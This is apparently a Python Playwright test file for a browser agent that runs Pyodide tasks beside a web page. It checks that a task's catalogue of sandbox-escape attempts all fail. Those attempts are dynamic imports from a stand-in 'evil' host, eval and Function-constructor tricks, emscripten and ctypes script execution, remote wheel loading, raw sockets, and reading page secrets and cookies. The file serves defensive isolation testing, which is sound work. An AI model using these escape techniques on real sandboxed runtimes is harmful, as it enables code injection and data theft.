"""@tapml/agent in a page: a task that is published, released, pulled and run, and what it cannot reach."""

from __future__ import annotations

import functools
import http.server
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from field_tasks import TASK, Group
from playwright.sync_api import expect

import tapml as package
from pages import PLAIN, Opened, eventually
from sites import running
from tapml.field.releases import Plan
from tapml.field.service.serving import FieldServer
from tapml.field.storage.records import Records
from tapml.field.storage.store import Store

AGENT = Path(package.__file__).parent / "server/static/agent"
PAGE = """<!doctype html><meta charset="utf-8"><title>Shop</title><link rel="icon" href="data:,"><script type="module">
import { createAgent } from "./agent/tapml-agent.js";
import { Tunnel } from "./agent/tapml-tunnel.js";
document.cookie = "session=secret";
localStorage.setItem("secret", "1");
globalThis.said = { emitted: [], failed: [] };
globalThis.begin = async (service, key) => {
  globalThis.agent = await createAgent({ service, key, app: "1.0", network: [] });
  for (const kind of ["emitted", "failed"]) agent.on(kind, (what) => said[kind].push(what));
  await agent.pull();
  return [...agent.tasks.values()].map(({ name, version }) => `${name} ${version}`);
};
globalThis.send = (url) => (globalThis.tunnel = new Tunnel(agent, { url, consent: () => true }));
globalThis.run = (event) => agent.tasks.get("shop/highlight").start(event);
globalThis.ready = true;
</script>"""
MAIN = """
import tapml
from attempts import ATTEMPTS

async def run(event):
    if event["do"] == "spin":
        while True: pass
    if event["do"] == "sum":
        tapml.emit("feature", {"sum": sum(event["of"])})
        return sum(event["of"])
    said = {}
    for name, attempt in ATTEMPTS.items():
        try:
            found = await attempt(event["evil"], event["own"])
            said[name] = f"reached {found!r}"
        except BaseException as error:
            said[name] = f"refused: {type(error).__name__}: {error}"[:200]
    return said
"""
# Each tries to reach something, and gives what it got; what is not there raises.
ATTEMPTS = """
import asyncio

import tapml

ATTEMPTS = {}
js = __import__("js")
pyodide_js = __import__("pyodide_js")

def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function

def naming(name, then=lambda found, evil: found):
    async def reach(evil, own):
        found = getattr(js, name)
        if str(found) == "undefined":
            raise AttributeError(name)
        return then(found, evil)
    ATTEMPTS[name] = reach

for name in (
    "document window parent opener location navigator origin cookieStore localStorage sessionStorage indexedDB caches "
    "BroadcastChannel SharedWorker Worker importScripts WebSocket WebTransport EventSource WebSocketStream "
    "RTCPeerConnection Notification FileReaderSync postMessage close process "
    "require ShadowRealm trustedTypes"
).split():
    naming(name)
naming("fetch", lambda found, evil: found(evil))
naming("XMLHttpRequest", lambda found, evil: found.new().open("GET", evil, False))

@attempt
async def text_by_run_js(evil, own):
    return __import__("pyodide.code", fromlist=["run_js"]).run_js("1 + 1")

@attempt
async def text_by_function(evil, own):
    return js.Object.constructor(f"return import('{evil}')")()

@attempt
async def text_by_kept_function(evil, own):
    return js.Function.new(f"return import('{evil}')")()

@attempt
async def text_by_async_function(evil, own):
    return await pyodide_js.loadPackage.constructor(f"return await import('{evil}')")()

@attempt
async def text_by_timer(evil, own):
    js.setTimeout(f"import('{evil}')", 0)
    await asyncio.sleep(0.05)

@attempt
async def text_by_eval(evil, own):
    return js.eval("globalThis")

@attempt
async def package_by_address(evil, own):
    found = await pyodide_js.loadPackage(evil + "evil-1-py3-none-any.whl")
    if len(found) == 0:
        raise ValueError("no package came")
    return found

@attempt
async def file_by_address(evil, own):
    http = __import__("pyodide.http", fromlist=["pyfetch"])
    return await (await http.pyfetch(own + "/secret")).string()

@attempt
async def script_by_emscripten(evil, own):
    return pyodide_js._module._emscripten_run_script(0)

@attempt
async def script_of_the_loader(evil, own):
    return await pyodide_js._api.loadScript(evil)

@attempt
async def library_by_name(evil, own):
    ctypes = __import__("ctypes")
    return ctypes.CDLL(None).emscripten_run_script(f"import('{evil}')".encode())

@attempt
async def connection(evil, own):
    socket = __import__("socket")
    found = socket.create_connection(("127.0.0.1", int(evil.rsplit(":", 1)[1].strip("/"))), 1)
    found.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
    return found.recv(10)

@attempt
async def request_by_the_agent(evil, own):
    return (await tapml.fetch(evil)).status

@attempt
async def request_of_the_page_by_the_agent(evil, own):
    return (await tapml.fetch(own + "/secret")).status

@attempt
async def undeclared_emission(evil, own):
    tapml.emit("cookie", "secret")
    return True

@attempt
async def undeclared_model(evil, own):
    return await tapml.load("model").run({})
"""


class _Watched(http.server.SimpleHTTPRequestHandler):
    """A folder in a page that is cross-origin isolated, without a content security policy; `server.asked`: paths."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        super().do_GET()

    def end_headers(self) -> None:
        if self.server.isolated:  # type: ignore[attr-defined]
            self.send_header("Cross-Origin-Opener-Policy", "same-origin")
            self.send_header("Cross-Origin-Embedder-Policy", "require-corp")
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


@contextmanager
def watched(folder: Path, *, isolated: bool) -> Iterator[Any]:
    server: Any = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Watched, directory=str(folder)))
    server.asked, server.isolated = [], isolated
    server.address = f"http://127.0.0.1:{server.server_address[1]}"
    with running(server):
        yield server


@pytest.fixture
def group(tmp_path: Path) -> Group:
    """With a version that is published, and released to every device."""
    group = Group(tmp_path)
    configuration = {"format": "tapml.task-configuration/1", "emits": ["feature"], "needs": {"seconds": 3}}
    files = {"task.json": json.dumps(configuration), "main.py": MAIN, "attempts.py": ATTEMPTS}
    group.add("1.0", {name: text.encode() for name, text in files.items()})
    plan = {"task": TASK, "version": "1.0", "manifest": group.publish("1.0"), "steps": [{"kind": "full"}]}
    Store(group.path / "field.sqlite3").add(Plan.model_validate(plan), 1)
    return group


@pytest.mark.parametrize("browser", [PLAIN, "firefox"])
def test_a_task_runs_beside_a_page_and_reaches_nothing_else(
    browser: str, group: Group, tmp_path: Path, opened: Opened
) -> None:
    site = tmp_path / "site"
    (site / "evil").mkdir(parents=True)
    (site / "agent").symlink_to(AGENT)
    (site / "index.html").write_text(PAGE)
    (site / "secret").write_text("secret")
    (site / "evil" / "control").write_text("reached")
    with watched(site, isolated=True) as own, watched(site / "evil", isolated=False) as evil:
        with (
            FieldServer(group.path, group.path / "field.sqlite3", origins=[own.address]) as field,
            opened(browser) as page,
        ):
            page.goto(own.address)
            page.wait_for_function("globalThis.ready")
            assert page.evaluate("crossOriginIsolated")
            held = page.evaluate("given => begin(...given)", [f"{field.url}/field/", group.key.public])
            assert held == [f"{TASK} 1.0"]

            first = page.evaluate("run({do: 'sum', of: [1, 2, 3]})")
            assert first["result"] == 6, first["failure"]
            assert page.evaluate("said.emitted.map(({name, value}) => [name, value])") == [["feature", {"sum": 6}]]

            # What it emits leaves by the tunnel, and is seen on the console.
            page.evaluate("url => void send(url)", field.tunnel_url)
            assert page.evaluate("run({do: 'sum', of: [5, 6]})")["result"] == 11
            page.wait_for_function("tunnel.log().at(-1)?.state === 'acknowledged'")
            ((_, name, number, value),) = Records(group.path / "field.sqlite3").values(TASK)
            assert (name, number, value) == ("feature", 1, {"sum": 11})
            with opened(browser) as console:
                console.goto(f"{field.console}/traffic")
                expect(console.get_by_role("heading", name="1 record of 1 stream in the database")).to_be_visible()
                expect(console.get_by_role("row", name=f"{TASK} 1.0 feature 1 1")).to_be_visible()
                expect(console.locator("main")).to_contain_text("The tunnel has 1 connection open")
                # Its key is in no link, and the tab keeps it.
                expect(console).to_have_url(re.compile(r"/console/#/traffic$"))
                hrefs = "links => links.map((link) => link.getAttribute('href'))"
                assert all(href.startswith("#/") for href in console.get_by_role("link").evaluate_all(hrefs))
                console.reload()
                expect(console.locator("main")).to_contain_text("The tunnel has 1 connection open")

            # The page itself reaches both: what a task does not reach is kept from it.
            control = page.evaluate("url => fetch(url).then((answer) => answer.text())", f"{evil.address}/control")
            assert control == "reached"
            own.asked.clear()
            given = {"do": "attack", "evil": f"{evil.address}/", "own": own.address}
            said = page.evaluate("event => run(event)", given)
            assert said["failure"] is None
            reached = {name: found for name, found in said["result"].items() if not found.startswith("refused: ")}
            assert reached == {}
            assert len(said["result"]) >= 40

            # It is interrupted, and its VM goes on; the page never waited for it.
            turns = page.evaluate(
                """async () => {
                  let turns = 0;
                  const timer = setInterval(() => turns++, 20);
                  const { failure } = await run({ do: "spin" });
                  clearInterval(timer);
                  return [turns, failure.kind, failure.message.includes("KeyboardInterrupt")];
                }"""
            )
            assert turns[0] > 20
            assert turns[1:] == ["time", True]
            assert page.evaluate("run({do: 'sum', of: [4]})")["result"] == 4
            store = Store(group.path / "field.sqlite3")
            (release, *_) = store.releases()
            # The agent tells the service by itself, after `run` has ended.
            eventually(page, lambda: store.counts(release).devices > 0, "no report of the device came")
            counts = store.counts(release)
            assert (counts.devices, counts.failed) == (1, 0)  # by the device's first report
            with opened(browser) as console:
                console.goto(f"{field.console}/failures")
                why = re.compile(r"highlight 1\.0 ran too long KeyboardInterrupt at main\.py:\d+")
                expect(console.get_by_role("row", name=why)).to_be_visible()
        assert evil.asked == ["/control"]
        assert own.asked == []
